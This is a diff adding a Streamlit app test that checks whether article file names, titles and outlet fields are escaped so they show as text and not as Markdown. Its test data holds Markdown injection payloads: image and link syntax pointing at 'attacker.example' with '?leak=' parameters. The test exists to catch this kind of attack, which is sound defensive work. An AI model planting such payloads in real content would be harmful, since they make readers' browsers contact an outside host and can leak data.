@@ -283,3 +283,34 @@ def test_an_unusable_store_is_one_message_without_its_path(monkeypatch, tmp_path
     at = run_app(monkeypatch, db)
     _no_traceback_or_path(at, str(tmp_path))
     assert len(at.error) == 1 and "Cannot open the store store.sqlite:" in at.error[0].value.replace("\\", "")
+
+
+# --- Markdown injection: file names, titles and outlets are shown as text, never as Markdown ---
+ATTACKER = "attacker.example"
+MD_FILE = f"![y](https:{ATTACKER}?leak=1).txt"
+MD_TITLE = f"Read [this](https://{ATTACKER}/t?leak=2) ![i](https://{ATTACKER}/i.png?leak=3) www.{ATTACKER} :red[x]"
+
+
+def _markdown_sources(at: AppTest) -> list[str]:
+    """The Markdown source of every element Streamlit renders as Markdown."""
+    out = [str(e.value) for kind in ("markdown", "caption", "warning", "info", "error", "success")
+           for e in at.get(kind)]  # fmt: skip
+    return out + [e.label for e in at.expander]
+
+
+def test_markdown_in_file_names_and_titles_is_shown_as_text(monkeypatch, tmp_path):
+    import re
+
+    db = str(tmp_path / "s.sqlite")
+    with Store(db) as s:
+        a = Article(id="md", path=f"/corpus/{MD_FILE}", text="Shelling near Tovuz.", title=MD_TITLE,
+                    published=date(2020, 7, 12), published_how="header", source=f"[outlet](https://{ATTACKER}/s)")  # fmt: skip
+        s.upsert_article(a, [_men(a, "Tovuz", TOVUZ, date(2020, 7, 12))])
+    at = run_app(monkeypatch, db, {"place": TOVUZ.id})
+    sources = _markdown_sources(at)
+    joined = "\n".join(sources)
+    assert "leak\\=1" in joined and "leak\\=2" in joined  # the file name and title are on the page...
+    for src in sources:  # ...and none of it is Markdown syntax Streamlit would act on
+        assert not re.search(r"(?<!\\)!\[|(?<!\\)\]\(|(?<!\\):red\[", src), src
+        assert not re.search(r"https?\\?:\\?/|www\\?\.", src), src  # no autolink either (Streamlit makes
+        # links of https://x and www.x even when every character is backslash-escaped)
